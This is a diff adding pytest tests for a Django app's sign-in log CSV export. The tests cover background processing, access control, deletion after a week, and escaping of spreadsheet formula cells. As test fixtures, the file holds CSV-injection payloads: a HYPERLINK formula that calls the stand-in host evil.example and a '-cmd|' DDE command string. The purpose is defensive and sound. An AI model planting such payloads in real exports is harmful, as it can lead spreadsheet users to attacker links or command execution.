@@ -1,0 +1,122 @@
+"""The sign-in log exported as CSV by a real Celery worker, with progress in the console
+and formula cells neutralised (SECURITY item 38)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import time
+import uuid
+
+import pytest
+from django_tenants.utils import tenant_context
+
+from accounts.models import SignInEvent, SignInLogExport
+from audit.models import AuditEvent
+from ciam.spreadsheets import spreadsheet_safe
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 1 23", "'+33 1 23"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("ada@example.com", "ada@example.com"),
+        ("a=b", "a=b"),
+        (None, ""),
+    ],
+)
+def test_cells_a_spreadsheet_would_evaluate_are_written_as_text(cell, written):
+    assert spreadsheet_safe(cell) == written
+
+
+def wait_for(condition, timeout: float = 30):
+    deadline = time.monotonic() + timeout
+    while not condition():
+        assert time.monotonic() < deadline, "the export did not finish"
+        time.sleep(0.1)
+
+
+def test_export_runs_in_the_worker_and_downloads_a_safe_csv(
+    worlds, committed, celery_worker_process
+):
+    world = worlds["acme"]
+    marker = uuid.uuid4().hex[:12]
+    formula = f'=HYPERLINK("http://evil.example/?{marker}","open me")'
+    with tenant_context(world.tenant):
+        for number in range(3):
+            SignInEvent.objects.create(
+                email_typed=f"{marker}-{number}@partner.example", method="password",
+                result="failure", failure_reason="no_such_user", ip_address="198.51.100.7",
+                user_agent="curl/8.5.0",
+            )  # fmt: skip
+        SignInEvent.objects.create(
+            email_typed=formula, method="password", result="failure",
+            user_agent="-cmd|' /C calc'!A0",
+        )  # fmt: skip
+        SignInEvent.objects.create(  # another result: filtered out
+            email_typed=f"{marker}-ok@partner.example", method="password", result="success"
+        )
+    admin = world.client(user=world.admin)
+    started = admin.post(
+        "/console/logs/sign-ins/exports/", {"q": marker, "result": "failure", "days": "1"}
+    )
+    assert started.status_code == 302
+    page = started["Location"]
+    first = admin.get(page).content.decode()
+    assert "Sign-in log export" in first and f"“{marker}”" in first
+
+    wait_for(lambda: "Download CSV" in admin.get(page).content.decode())
+    fragment = admin.get(page, HTTP_HX_REQUEST="true").content.decode()
+    assert "<html" not in fragment and "hx-trigger" not in fragment  # polling stopped
+    download = admin.get(f"{page}download/")
+    assert download["Content-Type"] == "text/csv; charset=utf-8"
+    assert download["Content-Disposition"].startswith('attachment; filename="sign-ins-')
+    rows = list(csv.reader(io.StringIO(download.content.decode())))
+    header, body = rows[0], rows[1:]
+    assert header[:4] == ["time (UTC)", "user", "user id", "email typed"]
+    assert len(body) == 4  # the failures matching the search, not the success
+    typed = {row[header.index("email typed")] for row in body}
+    assert "'" + formula in typed and formula not in typed
+    agents = {row[header.index("user agent")] for row in body}
+    assert "'-cmd|' /C calc'!A0" in agents and "curl/8.5.0" in agents
+    assert {row[header.index("browser")] for row in body} >= {"curl"}
+    with tenant_context(world.tenant):
+        export = SignInLogExport.objects.get(public_id=page.rstrip("/").rsplit("/", 1)[1])
+        assert (export.rows_total, export.rows_done, export.status) == (4, 4, "done")
+        assert AuditEvent.objects.filter(
+            action="sign_in_log.export", target_id=str(export.public_id)
+        ).exists()
+
+
+def test_only_the_sign_in_log_readers_export(acme):
+    member = acme.client(user=acme.member)
+    assert member.post("/console/logs/sign-ins/exports/", {"q": "x"}).status_code == 403
+    with tenant_context(acme.tenant):
+        export = SignInLogExport.objects.create(status="done", content="time (UTC)\n")
+    assert member.get(f"/console/logs/sign-ins/exports/{export.public_id}/").status_code == 403
+    download = f"/console/logs/sign-ins/exports/{export.public_id}/download/"
+    assert member.get(download).status_code == 403
+    assert acme.client(user=acme.admin).get(download).status_code == 200
+
+
+def test_exports_are_forgotten_after_a_week(acme):
+    from django.utils import timezone
+
+    from accounts.tasks import sign_in_exports_forget_all
+
+    with tenant_context(acme.tenant):
+        old = SignInLogExport.objects.create(status="done", content="personal data")
+        recent = SignInLogExport.objects.create(status="done", content="personal data")
+        SignInLogExport.objects.filter(pk=old.pk).update(
+            created_at=timezone.now() - timezone.timedelta(days=8)
+        )
+    result = sign_in_exports_forget_all()
+    assert result["deleted"] >= 1
+    with tenant_context(acme.tenant):
+        assert not SignInLogExport.objects.filter(pk=old.pk).exists()
+        assert SignInLogExport.objects.filter(pk=recent.pk).exists()
